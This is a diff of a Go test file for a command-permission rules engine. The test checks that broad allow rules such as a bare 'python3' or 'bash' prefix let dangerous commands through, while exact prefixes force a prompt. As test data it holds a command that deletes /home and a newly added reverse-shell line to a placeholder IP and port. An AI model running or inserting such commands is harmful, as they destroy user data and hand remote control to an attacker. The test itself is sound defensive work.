@@ -58,25 +58,31 @@ func TestG14_BroadAllowRulesWarn(t *testing.T) {
 	}
 }
 
-// The warning is true: with a broad allow rule a destructive command the
-// interpreter runs is allowed, where without the rule (or with an exact
+// The warning is true: with a broad allow rule, dangerous code the shell
+// or interpreter runs is allowed, where without the rule (or with an exact
 // prefix) it needs at least a prompt.
 func TestG14_BroadAllowRuleAllowsDangerousCode(t *testing.T) {
-	const script = `python3 -c 'import shutil; shutil.rmtree("/home")'`
+	const (
+		rmtree  = `python3 -c 'import shutil; shutil.rmtree("/home")'`
+		reverse = `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`
+	)
 	for _, tc := range []struct {
-		rules string
-		want  rules.Decision
+		rules, script string
+		want          rules.Decision
 	}{
-		{`prefix_rule(pattern = ["python3"])`, rules.Allow},
-		{`prefix_rule(pattern = ["python3", "-m", "pytest"])`, rules.Prompt},
-		{``, rules.Prompt},
+		{`prefix_rule(pattern = ["python3"])`, rmtree, rules.Allow},
+		{`prefix_rule(pattern = ["python3", "-m", "pytest"])`, rmtree, rules.Prompt},
+		{``, rmtree, rules.Prompt},
+		{`prefix_rule(pattern = ["bash"])`, reverse, rules.Allow},
+		{`prefix_rule(pattern = ["bash", "scripts/test.sh"])`, reverse, rules.Prompt},
+		{``, reverse, rules.Prompt},
 	} {
 		set, err := rules.Parse([]byte(tc.rules+"\n"), "team.rules")
 		if err != nil {
 			t.Fatal(err)
 		}
-		if got := rules.Evaluate(set, script).Decision; got != tc.want {
-			t.Errorf("rules %q: %s is %s, want %s", tc.rules, script, got, tc.want)
+		if got := rules.Evaluate(set, tc.script).Decision; got != tc.want {
+			t.Errorf("rules %q: %s is %s, want %s", tc.rules, tc.script, got, tc.want)
 		}
 		if (tc.want == rules.Allow) != (len(set.Broad()) == 1) {
 			t.Errorf("rules %q: warnings %q", tc.rules, set.Broad())
